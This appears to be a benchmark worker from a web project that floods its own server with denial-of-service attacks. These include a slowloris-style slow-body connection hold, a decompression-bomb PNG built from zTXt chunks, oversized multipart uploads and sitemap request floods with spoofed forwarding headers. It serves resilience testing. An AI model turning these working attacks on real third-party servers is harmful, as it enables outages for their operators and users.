/* The attacks of `bench/attack.ts`, in a thread of their own, until they are told to stop. */
import { once } from 'node:events'
import { type IncomingMessage, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'
import { crc32, deflateSync } from 'node:zlib'
import { clientAddress } from '../latency.ts'

export type AttackName = 'readSitemaps' | 'uploadPoison' | 'uploadMany' | 'uploadPairs' | 'drip'

export interface AttackInput {
  attack: AttackName
  url: string
  /** Tokens of owners with premium. */
  members: string[]
  graves: number
}

const { attack, url, members, graves } = workerData as AttackInput
const over = new AbortController()
const { signal } = over
parentPort?.once('message', () => over.abort())
const boundary = 'attack'
/** How many uploads got which status; 0 means cut off. */
const answers = new Map<number, number>()
await { readSitemaps, uploadPoison, uploadMany, uploadPairs, drip }[attack]()
if (answers.size > 0) console.log(`${attack}:`, Object.fromEntries(answers))

function readSitemaps(): Promise<void> {
  return several(8, async (i) => {
    const number = 1 + (i % Math.ceil(graves / 5_000))
    const headers = { 'x-forwarded-for': clientAddress(1_000_000 + i) }
    await (await fetch(`${url}/sitemap-memorials-${number}.xml`, { headers })).arrayBuffer()
  })
}

function uploadPoison(): Promise<void> {
  return uploadAgain(4, [poisonedPng()])
}

/** Announces far more bytes than a portrait may have. */
function uploadMany(): Promise<void> {
  return uploadAgain(13, Array<Buffer>(4).fill(Buffer.alloc(5_000_000)))
}

/** One file too many, in a body small enough to be read to its end. */
function uploadPairs(): Promise<void> {
  return uploadAgain(13, Array<Buffer>(2).fill(Buffer.alloc(5_000_000)))
}

function uploadAgain(count: number, files: readonly Buffer[]): Promise<void> {
  const body = formOf(files)
  return several(count, (i) => upload(members[i % members.length] ?? '', body))
}

async function drip(): Promise<void> {
  const sockets = await Promise.all(
    Array.from({ length: 300 }, () => openBody(Number(new URL(url).port))),
  )
  while (!signal.aborted) {
    for (const socket of sockets) if (socket.writable) socket.write('h')
    await wait(1_000)
  }
  for (const socket of sockets) socket.destroy()
}

async function openBody(port: number): Promise<Socket> {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => {})
  await once(socket, 'connect')
  socket.resume()
  socket.write(
    'POST /api/accounts/login/ HTTP/1.1\r\nhost: localhost\r\n' +
      'content-type: application/json\r\ncontent-length: 9000\r\n\r\n{',
  )
  return socket
}

/** Repeats until the attack is over. Refused and cut off requests are part of it. */
async function several(count: number, attempt: (i: number) => Promise<void>): Promise<void> {
  let i = 0
  const loop = async () => {
    while (!signal.aborted) {
      await attempt(i++).catch(() => answers.set(0, (answers.get(0) ?? 0) + 1))
      await wait(5)
    }
  }
  await Promise.all(Array.from({ length: count }, loop))
}

/**
 * Built once: an attacker who copies it for each request would slow down the visitors' clock instead of the
 * server.
 */
function formOf(files: readonly Buffer[]): Buffer {
  const head =
    `--${boundary}\r\ncontent-disposition: form-data; name="profile_photo"; filename="a.png"\r\n` +
    'content-type: image/png\r\n\r\n'
  const parts = files.flatMap((file) => [Buffer.from(head), file, Buffer.from('\r\n')])
  return Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)])
}

async function upload(access: string, body: Buffer): Promise<void> {
  const sending = request(`${url}/api/accounts/profile/`, {
    method: 'PATCH',
    headers: {
      authorization: `Bearer ${access}`,
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'content-length': body.length,
    },
    signal,
  })
  sending.end(body)
  const [response] = (await once(sending, 'response')) as [IncomingMessage]
  answers.set(response.statusCode ?? 0, (answers.get(response.statusCode ?? 0) ?? 0) + 1)
  await response.resume().toArray()
  sending.destroy()
}

/** 2.9 MB whose text unpacks to 2.9 GB. */
function poisonedPng(): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(8, 0)
  header.writeUInt32BE(8, 4)
  header[8] = 1
  const packed = deflateSync(Buffer.alloc(8_000_000), { level: 9 })
  const text = chunk('zTXt', Buffer.concat([Buffer.from('Words\0\0', 'latin1'), packed]))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    ...Array<Buffer>(360).fill(text),
    chunk('IDAT', deflateSync(Buffer.alloc(16))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), content])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(content.length, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}
